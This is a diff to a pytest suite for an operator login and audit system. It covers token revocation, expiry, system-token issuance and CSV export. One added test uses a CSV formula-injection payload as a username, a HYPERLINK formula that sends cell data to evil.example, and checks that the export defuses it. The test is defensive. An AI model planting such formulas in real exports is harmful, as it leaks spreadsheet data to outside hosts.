@@ -195,12 +195,51 @@ def test_token_is_shown_once_and_stored_hashed(engine, admin, mario):
     assert events(engine, "login")[-1].outcome == "failed"
 
 
-def test_token_of_a_disabled_operator_is_refused(engine, admin, mario):
+def test_token_of_a_disabled_operator_dies_for_good(engine, admin, mario):
     token = auth.issue_token(engine, admin, "mario")
     operators.disable_operator(engine, admin, "mario")
-    with pytest.raises(LoginRefused) as exc:
+    with pytest.raises(LoginRefused):
         auth.authenticate_token(engine, token)
-    assert exc.value.reason == "disabled"
+    operators.enable_operator(engine, admin, "mario")
+    with pytest.raises(LoginRefused):
+        auth.authenticate_token(engine, token)
+
+
+def test_a_new_password_ends_the_token(engine, admin, mario):
+    token = auth.issue_token(engine, admin, "mario")
+    assert auth.authenticate_token(engine, token).name == "mario"
+    operators.change_password(engine, admin, "mario", "password-2-new")
+    with pytest.raises(LoginRefused):
+        auth.authenticate_token(engine, token)
+    assert events(engine, "operator.password")[-1].details["changed"] == [
+        "password",
+        "token revoked",
+    ]
+
+
+def test_a_token_expires(engine, admin, mario):
+    token = auth.issue_token(engine, admin, "mario", now=NOW, days=30)
+    assert auth.authenticate_token(engine, token, now=NOW + timedelta(days=29)).name == "mario"
+    with pytest.raises(LoginRefused) as exc:
+        auth.authenticate_token(engine, token, now=NOW + timedelta(days=30))
+    assert exc.value.reason == "expired"
+    with pytest.raises(ValidationError):
+        auth.issue_token(engine, admin, "mario", days=0)
+
+
+def test_the_system_token_is_issued_by_an_administrator_only(engine, admin, mario):
+    back_office = auth.authenticate(engine, "mario", "password-1")
+    with pytest.raises(AccessDenied):
+        auth.issue_system_token(engine, back_office)
+    token = auth.issue_system_token(engine, admin)
+    system = auth.authenticate_token(engine, token)
+    assert (system.name, system.role, system.is_admin) == ("system", Role.ADMIN, True)
+    with Session(engine) as session:
+        stored = session.exec(select(Operator).where(Operator.username == "system")).one()
+    assert stored.token_hash != token and token not in stored.token_hash
+    assert auth.issue_system_token(engine, admin) != token  # a new one replaces it
+    with pytest.raises(LoginRefused):
+        auth.authenticate_token(engine, token)
 
 
 def test_operators_issue_tokens_for_themselves_only(engine, admin, mario):
@@ -386,3 +425,15 @@ def test_a_deliberate_wipe_of_the_whole_database_may_delete_the_trail(engine, ad
         pytest.raises(audit.AuditTampering),
     ):
         connection.execute(update(AuditEvent).values(actor="x"))
+
+
+def test_audit_export_defuses_a_formula_typed_as_username(engine, admin):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with pytest.raises(LoginRefused):
+        auth.authenticate(engine, formula, "whatever")
+    out = io.StringIO()
+    aq.write_csv(aq.iter_events(engine, admin, aq.AuditFilter(outcome="failed")), out)
+    import csv
+
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["actor"].startswith("'=") and row["actor"][1:].lower() == formula.lower()
